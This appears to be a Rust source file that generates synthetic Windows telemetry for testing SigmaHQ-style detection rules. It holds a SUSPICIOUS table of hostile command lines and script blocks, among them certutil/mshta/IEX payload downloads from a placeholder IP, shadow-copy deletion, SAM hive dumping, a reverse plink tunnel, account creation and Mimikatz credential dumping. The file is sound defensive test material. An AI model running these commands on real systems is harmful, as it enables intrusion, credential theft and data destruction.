//! The values the corpus draws from: programs (mostly benign, a few that common SigmaHQ
//! process_creation rules flag), DNS names, script blocks, services, users.

/// A program a host may start: image path and command line (`{user}` is the user's name,
/// `{n}` a number).
pub(super) struct Program {
    pub image: &'static str,
    pub command_line: &'static str,
    /// Started by the user's shell (explorer) rather than by a service.
    pub interactive: bool,
}

const fn prog(image: &'static str, command_line: &'static str, interactive: bool) -> Program {
    Program {
        image,
        command_line,
        interactive,
    }
}

/// Everyday programs.
pub(super) const BENIGN: &[Program] = &[
    prog(
        "C:\\Windows\\System32\\svchost.exe",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        false,
    ),
    prog(
        "C:\\Windows\\System32\\svchost.exe",
        "C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p -s WinHttpAutoProxySvc",
        false,
    ),
    prog(
        "C:\\Windows\\System32\\conhost.exe",
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
        false,
    ),
    prog(
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US --renderer-client-id={n} --field-trial-handle=1780,i,{n}",
        true,
    ),
    prog(
        "C:\\Windows\\System32\\backgroundTaskHost.exe",
        "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountProvider",
        false,
    ),
    prog(
        "C:\\Windows\\System32\\taskhostw.exe",
        "taskhostw.exe Install $(Arg0)",
        false,
    ),
    prog(
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" ",
        true,
    ),
    prog(
        "C:\\Windows\\System32\\SearchProtocolHost.exe",
        "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n}",
        false,
    ),
    prog(
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -NoProfile -Command \"Get-Date -Format o\"",
        true,
    ),
    prog(
        "C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe",
        "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background",
        true,
    ),
    prog(
        "C:\\Windows\\System32\\dllhost.exe",
        "C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
        false,
    ),
    prog(
        "C:\\Windows\\System32\\RuntimeBroker.exe",
        "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",
        false,
    ),
    prog(
        "C:\\Windows\\System32\\notepad.exe",
        "\"C:\\Windows\\system32\\notepad.exe\" C:\\Users\\{user}\\Documents\\notes-{n}.txt",
        true,
    ),
    prog(
        "C:\\Program Files\\7-Zip\\7z.exe",
        "\"C:\\Program Files\\7-Zip\\7z.exe\" x C:\\Users\\{user}\\Downloads\\archive-{n}.zip -oC:\\Users\\{user}\\Downloads\\archive-{n}",
        true,
    ),
    prog(
        "C:\\Windows\\System32\\cmd.exe",
        "\"C:\\Windows\\system32\\cmd.exe\" /c dir C:\\Users\\{user}\\Documents",
        true,
    ),
    prog(
        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
        "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none",
        true,
    ),
    prog(
        "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
        false,
    ),
    prog(
        "C:\\Windows\\System32\\MpCmdRun.exe",
        "\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\" SignatureUpdate -ScheduleJob -RestrictPrivileges",
        false,
    ),
];

/// Programs that common SigmaHQ process_creation rules (and the bundled ones) flag.
pub(super) const SUSPICIOUS: &[Program] = &[
    prog("C:\\Windows\\System32\\whoami.exe", "whoami /all", true),
    prog(
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        true,
    ),
    prog(
        "C:\\Windows\\System32\\certutil.exe",
        "certutil.exe -urlcache -split -f http://198.51.100.23/a{n}.exe C:\\Users\\Public\\a{n}.exe",
        true,
    ),
    prog(
        "C:\\Windows\\System32\\rundll32.exe",
        "rundll32.exe C:\\Users\\Public\\payload{n}.dll,DllRegisterServer",
        true,
    ),
    prog(
        "C:\\Windows\\System32\\vssadmin.exe",
        "vssadmin.exe delete shadows /all /quiet",
        true,
    ),
    prog(
        "C:\\Windows\\System32\\net.exe",
        "net.exe user support{n} P@ssw0rd! /add",
        true,
    ),
    prog(
        "C:\\Windows\\System32\\schtasks.exe",
        "schtasks.exe /create /sc minute /mo 5 /tn Updater{n} /tr C:\\Users\\Public\\updater.exe",
        true,
    ),
    prog(
        "C:\\Windows\\System32\\mshta.exe",
        "mshta.exe http://198.51.100.23/run{n}.hta",
        true,
    ),
    prog(
        "C:\\Windows\\System32\\reg.exe",
        "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam{n}.save",
        true,
    ),
    prog(
        "C:\\Users\\{user}\\Downloads\\plink.exe",
        "plink.exe -ssh -N -R 4{n}:127.0.0.1:3389 tunnel@203.0.113.50",
        true,
    ),
    prog(
        "C:\\Tools\\socat.exe",
        "socat.exe TCP-LISTEN:8443,fork TCP:10.20.30.40:443",
        true,
    ),
];

/// Names resolved every day.
pub(super) const DNS_BENIGN: &[&str] = &[
    "login.microsoftonline.com",
    "outlook.office365.com",
    "www.bing.com",
    "ctldl.windowsupdate.com",
    "settings-win.data.microsoft.com",
    "fonts.gstatic.com",
    "www.google.com",
    "teams.microsoft.com",
    "oneclient.sfx.ms",
    "github.com",
    "dc01.corp.example",
    "fs01.corp.example",
    "wpad.corp.example",
    "time.windows.com",
    "update.googleapis.com",
];

/// Names the paste/chat abuse detections look for.
pub(super) const DNS_ABUSED: &[&str] = &["pastebin.com", "cdn.discordapp.com", "api.telegram.org"];

/// DLLs loaded everywhere.
pub(super) const DLLS: &[&str] = &[
    "C:\\Windows\\System32\\winhttp.dll",
    "C:\\Windows\\System32\\crypt32.dll",
    "C:\\Windows\\System32\\wininet.dll",
    "C:\\Windows\\System32\\dnsapi.dll",
    "C:\\Windows\\System32\\amsi.dll",
    "C:\\Windows\\System32\\bcrypt.dll",
    "C:\\Windows\\System32\\ole32.dll",
];

/// Registry values written in the background.
pub(super) const REGISTRY: &[(&str, &str)] = &[
    (
        "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Auto Update\\LastOnlineScanTimeForAppCategory",
        "QWORD (0x01da0b3c-0x5e0a{n})",
    ),
    (
        "HKU\\.DEFAULT\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\\Connections\\DefaultConnectionSettings",
        "Binary Data",
    ),
    (
        "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-3623811015-3361044348-30300820-1013\\\\Device\\HarddiskVolume3\\Windows\\System32\\notepad.exe",
        "Binary Data",
    ),
    (
        "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive",
        "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background",
    ),
];

/// Script blocks, benign.
pub(super) const SCRIPTS: &[&str] = &[
    "prompt",
    "Get-Process | Sort-Object CPU -Descending | Select-Object -First 10",
    "Get-ChildItem -Path $env:USERPROFILE\\Documents -Recurse -Filter *.docx | Measure-Object",
    "$ErrorActionPreference = 'Stop'\r\nImport-Module ActiveDirectory\r\nGet-ADUser -Filter * -SearchBase 'OU=Staff,DC=corp,DC=example' | Select-Object Name, Enabled",
    "Set-StrictMode -Version 1; $_.PSMessageDetails",
    "{ Set-StrictMode -Version 1; $this.Exception.InnerException.PSMessageDetails }",
];

/// Script blocks that script-block rules flag.
pub(super) const SCRIPTS_SUSPICIOUS: &[&str] = &[
    "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/stage{n}.ps1')",
    "Start-Dnscat2 -Domain t{n}.tunnel.example -NoEncryption",
    "[System.Reflection.Assembly]::Load([Convert]::FromBase64String($payload)); Invoke-Mimikatz -DumpCreds",
];

/// Services whose state changes in the System log.
pub(super) const SERVICES: &[&str] = &[
    "Windows Update",
    "Background Intelligent Transfer Service",
    "Windows Modules Installer",
    "Microsoft Defender Antivirus Service",
    "Print Spooler",
    "WinHTTP Web Proxy Auto-Discovery Service",
];

/// User names of the domain.
pub(super) const USERS: &[&str] = &[
    "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory", "oscar",
    "peggy",
];
